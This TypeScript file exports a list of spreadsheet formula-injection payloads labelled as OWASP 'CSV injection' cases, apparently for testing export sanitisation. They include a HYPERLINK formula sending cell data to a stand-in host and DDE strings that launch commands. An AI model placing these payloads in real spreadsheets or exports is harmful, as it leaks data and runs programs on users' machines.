/** Cell contents a spreadsheet program would evaluate (OWASP "CSV injection"), one line each. */
export const FORMULA_ATTACKS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
